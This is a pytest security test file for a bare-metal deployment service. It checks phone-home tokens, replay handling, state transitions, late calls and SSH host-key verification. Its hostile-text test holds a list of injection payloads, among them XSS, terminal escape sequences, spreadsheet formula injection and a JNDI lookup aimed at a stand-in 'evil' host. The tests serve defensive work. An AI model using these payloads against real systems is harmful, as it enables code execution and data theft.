"""What machines say moves only what it may, once, and is shown as text. THREATS T040-T048."""

from __future__ import annotations

import json
import re
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deployer.cli import output
from deployer.core.lifecycle import RESTING, TRANSITIONS, Event, MachineEvent
from deployer.core.text import is_plain_line
from deployer.core.tokens import Purpose
from deployer.services import verify
from deployer.store import effects as effect_store
from tests.support.machine import FakeMachine
from tests.support.service import HOST, KEY, Service, ok
from tests.support.ssh_server import SshServer, new_key

on_sqlite = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)


def installing(service: Service, **profile: Any) -> tuple[str, FakeMachine]:
    service.knows(**profile)
    id_, machine = service.deploys(), service.machine()
    machine.boots_installer()
    return id_, machine


def effects_of(service: Service, id_: str) -> list[str]:
    with service.parts.database.reading() as session:
        return [effect.name for effect in effect_store.of_deployment(session, id_)]


# --- who says it ------------------------------------------------------------------------------


@pytest.mark.slow
@on_sqlite
def test_t040_finished_is_believed_only_with_the_token_for_phoning_home(service: Service) -> None:
    id_, machine = installing(service)
    ok(service.api.post("/api/v1/hosts", json={"name": "b", "macs": ["02:00:00:00:00:0b"]}))
    other = service.deploys(host="b")
    tokens, others = service.parts.tokens(id_), service.parts.tokens(other)
    wrong = [
        "", "x", id_, id_.removeprefix("dep_"), tokens[Purpose.ANSWERS], tokens[Purpose.LOGS],
        id_.removeprefix("dep_") + others[Purpose.PHONE_HOME][26:],
    ]  # fmt: skip
    for token in wrong:
        for method in ("GET", "POST"):
            answer = machine.http.request(method, f"/d/{token}/phone-home/installer_finished")
            assert answer.status_code == 404, token
    assert service.state(id_) == "installing"
    # The other one's real token moves the other one.
    assert machine.http.post(f"/d/{others[Purpose.PHONE_HOME]}/phone-home/installer_started")
    assert (service.state(id_), service.state(other)) == ("installing", "installing")


@on_sqlite
def test_t040_a_machine_cannot_say_what_people_or_we_say(service: Service) -> None:
    id_, machine = installing(service)
    for event in set(Event) - set(MachineEvent):
        assert machine.phones_home(event).status_code == 422, event
    assert service.state(id_) == "installing"


# --- how often --------------------------------------------------------------------------------


@pytest.mark.slow
def test_t041_a_call_replayed_a_hundred_times_has_one_effect(service: Service) -> None:
    id_, machine = installing(service, verify={})
    machine.phones_home("installer_finished")
    url, body = f"{machine.url('phone_home')}/first_boot", {"ssh_host_keys": [KEY]}
    clients = [service.machine().http for _ in range(20)]
    with ThreadPoolExecutor(20) as pool:
        answers = list(pool.map(lambda client: client.post(url, json=body), clients))
    answers += [machine.http.post(url, json=body) for _ in range(80)]
    assert {(answer.status_code, answer.text) for answer in answers} == {(200, "ok\n")}
    assert effects_of(service, id_).count("ssh.verify") == 1
    moves = [line["to"] for line in service.history(id_) if line["to"]]
    assert moves.count("verifying") == 1
    assert len(service.history(id_)) < 30, "echoes fill no disk"


# --- in which order ---------------------------------------------------------------------------

CALLS = st.lists(
    st.sampled_from([*MachineEvent, "progress 90", "progress 10", "disks", "log", "boot", "plan"]),
    max_size=12,
)


@pytest.mark.slow
@on_sqlite
@given(calls=st.lists(CALLS, min_size=3, max_size=3))
@settings(
    max_examples=5, deadline=None, derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip
def test_t042_whatever_the_order_only_allowed_moves_happen(
    service: Service, calls: list[list[str]]
) -> None:
    for more in calls:
        if service.api.get("/api/v1/hosts/web01").status_code == 404:
            service.knows()
        id_, machine = service.deploys(), service.machine()
        tokens = service.parts.tokens(id_)
        machine.asks()
        for call in more:
            before = service.row(id_).state
            status = says(machine, tokens, call)
            after = service.row(id_).state
            assert status in (200, 404), call
            if before in RESTING:
                assert after == before, "a final state is final"
        moves = [(line["from"], line["to"]) for line in service.history(id_) if line["to"]]
        allowed = {(state.value, to.value) for (state, _), to in TRANSITIONS.items()}
        assert set(moves[1:]) <= allowed
        assert [to for _, to in moves[:-1]] == [start for start, _ in moves[1:]]
        if service.row(id_).state not in RESTING:
            ok(service.api.post(f"/api/v1/deployments/{id_}/cancel"))


def says(machine: FakeMachine, tokens: dict[Purpose, str], call: str) -> int:
    home, logs = f"/d/{tokens[Purpose.PHONE_HOME]}", f"/d/{tokens[Purpose.LOGS]}/logs"
    if call.startswith("progress"):
        body = {"stage": "writing", "percent": int(call.split()[1])}
        return machine.http.post(f"{home}/progress", json=body).status_code
    if call == "disks":
        body = {"disks": [{"name": "vda", "path": "/dev/vda", "size": 9 * 10**9}]}
        return machine.http.post(f"{home}/disks", json=body).status_code
    if call == "log":
        return machine.http.post(f"{logs}/agent.log", content=b"x").status_code
    if call == "boot":
        return 200 if machine.asks() else 500
    if call == "plan":
        return machine.http.get(f"/d/{tokens[Purpose.ANSWERS]}/answers/plan.json").status_code
    return machine.http.post(f"{home}/phone-home/{call}").status_code


@on_sqlite
def test_t042_progress_that_goes_back_moves_no_state(service: Service) -> None:
    id_, machine = installing(service)
    machine.progresses("writing", 90)
    machine.progresses("partitioning", 10)
    assert service.state(id_) == "installing"
    machine.phones_home("installer_finished")
    machine.progresses("writing", 50)
    machine.phones_home("installer_started")
    assert service.state(id_) == "first_boot"
    assert "installer_started" in service.events(id_), "but it is written down"


# --- too late ---------------------------------------------------------------------------------


@pytest.mark.parametrize("end", ["cancelled", "timed out", "failed"])
def test_t043_a_call_after_the_end_is_a_404_and_leaves_the_next_deployment_alone(
    service: Service, end: str
) -> None:
    old, machine = installing(service)
    if end == "cancelled":
        ok(service.api.post(f"/api/v1/deployments/{old}/cancel"))
    elif end == "failed":
        machine.phones_home("installer_failed")
    else:
        service.clock.forward(hours=2)
        service.expire()
    cause, new = service.row(old).cause, service.deploys()
    for event in MachineEvent:
        assert machine.phones_home(event).status_code == 404
    assert machine.progresses("writing", 1).status_code == 404
    assert machine.reports_disks().status_code == 404
    assert machine.sends_log(b"x").status_code == 404
    assert service.state(new) == "booting"
    assert (service.row(old).cause, effects_of(service, new)) == (
        cause, ["power.boot_once", "power.cycle"],
    )  # fmt: skip


# --- what it says -----------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\x1b[2J\x1b[31mred", "\x9b31m",
    "\x1b]8;;http://evil\x07click\x1b]8;;\x07", "abc\u202edcba", "a\u200bb", "a\u2066b\u2069",
    "line\nfake: line", "line\r\nfake", "a\u2028b", "a\x85b", "=HYPERLINK(\"http://evil\")",
    "+cmd|' /C calc'!A0", "@channel", "<!everyone>", "[link](http://evil)", "[red]x[/red]",
    "{\"event\": \"fake\"}", "%s %n", "${jndi:ldap://evil}", "a\x00b", "\x08\x08x", "\ufeffx",
    "[link=http://evil]x[/link]", ":smile:",
]  # fmt: skip


@pytest.mark.slow
@on_sqlite
def test_t045_hostile_text_is_shown_as_text_everywhere(
    service: Service, capfd: pytest.CaptureFixture[str]
) -> None:
    service.knows()
    for payload in (" ".join(PAYLOADS[::2]), " ".join(PAYLOADS[1::2])):
        id_, machine = service.deploys(), service.machine()
        machine.boots_installer()
        machine.progresses("writing", 1, payload)
        machine.sends_log(f"log {payload}".encode())
        body = {"message": payload, "stage": payload, "log_tail": payload, payload: payload}
        assert machine.phones_home("installer_failed", body).status_code == 200
        shown = [
            service.api.get(f"/api/v1/deployments/{id_}{more}")
            for more in ("", "/events", "/explain", "/logs/agent.log")
        ]
        for answer in shown:
            assert answer.status_code == 200
            assert "html" not in answer.headers["content-type"]
            assert harmless(answer.text), ascii(answer.text)
        for answer in shown[:3]:
            assert all(harmless(text) for text in texts(answer.json())), answer.text
        assert shown[3].headers["x-content-type-options"] == "nosniff"
    log = capfd.readouterr().err
    for line in log.rstrip("\n").split("\n"):
        assert line.isascii() and isinstance(json.loads(line), dict), line


@on_sqlite
def test_t045_a_terminal_shows_hostile_text_as_text(
    service: Service, capfd: pytest.CaptureFixture[str]
) -> None:
    for payload in PAYLOADS:
        shown = output.safe(payload)
        assert harmless(str(shown)), ascii(payload)
        if harmless(payload) and "\n" not in payload:
            assert str(shown) == payload, "and loses nothing"


def harmless(text: str) -> bool:
    """Nothing that a terminal, an editor or a page acts on; line breaks may stay where they are."""
    return is_plain_line(re.sub(r"\n", "", text))


def texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for key, inner in value.items() for text in (key, *texts(inner))]
    if isinstance(value, list):
        return [text for inner in value for text in texts(inner)]
    return [value] if isinstance(value, str) else []


# --- who answers when we log in ---------------------------------------------------------------


def verifies_against(
    service: Service, server: SshServer, reported: list[str]
) -> tuple[str, FakeMachine]:
    ok(service.api.post("/api/v1/hosts", json={
        **HOST, "ssh": {"address": "127.0.0.1", "port": server.port},
    }))  # fmt: skip
    ok(service.api.post("/api/v1/profiles", json={
        "name": "debian-12-image", "os": "image", "release": "debian-12",
    }))  # fmt: skip
    id_, machine = service.deploys(), service.machine()
    machine.installs()
    machine.phones_home("first_boot", {"ssh_host_keys": reported})
    return id_, machine


@pytest.mark.slow
@on_sqlite
def test_t048_another_host_key_fails_the_deployment_before_we_log_in(service: Service) -> None:
    with SshServer(lambda command: "", service.parts.ssh_public_key) as server:
        other = new_key()
        id_, _ = verifies_against(service, server, [f"{other.get_name()} {other.get_base64()}"])
        service.work()
        assert service.state(id_) == "failed"
        assert "shows another SSH host key than the one that we know" in service.cause(id_)
        assert server.commands == []
        assert not any(transport.is_authenticated() for transport in server._transports)


@on_sqlite
@pytest.mark.parametrize("reported", [[], ["", " ", "ssh-ed25519", "nonsense", "a b\nc d"]])
def test_t048_without_a_key_to_compare_we_do_not_log_in(
    service: Service, reported: list[str]
) -> None:
    with SshServer(lambda command: "", service.parts.ssh_public_key) as server:
        id_, _ = verifies_against(service, server, reported)
        service.work()
        assert service.state(id_) == "failed"
        assert "no SSH host key" in service.cause(id_)
        assert server.commands == []


@on_sqlite
def test_t048_a_key_of_another_kind_is_not_asked_for(service: Service) -> None:
    with SshServer(lambda command: "", service.parts.ssh_public_key) as server:
        id_, _ = verifies_against(service, server, [])
        snapshot = service.row(id_).snapshot
        reported = {"ssh_host_keys": ["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0"]}
        verdict = verify.verify(
            service.parts, verify.Snapshot.from_json(snapshot), reported, patience=0
        )
        assert verdict.cause is not None and server.commands == []


@pytest.mark.slow
@on_sqlite
def test_t048_the_right_key_lets_us_in(service: Service) -> None:
    with SshServer(lambda command: "web01\n", service.parts.ssh_public_key) as server:
        id_, _ = verifies_against(service, server, [server.host_key_line])
        service.work()
        assert server.commands != []
        assert "not as asked" in service.cause(id_), "this machine prints nonsense, but it is ours"


@pytest.mark.slow
@on_sqlite
def test_t048_a_key_reported_after_the_check_began_does_not_count(service: Service) -> None:
    with SshServer(lambda command: "", service.parts.ssh_public_key) as server:
        id_, machine = verifies_against(service, server, [KEY])
        service.work()
        assert service.state(id_) == "failed"
        late = machine.phones_home("first_boot", {"ssh_host_keys": [server.host_key_line]})
        assert late.status_code == 404
        assert service.state(id_) == "failed"
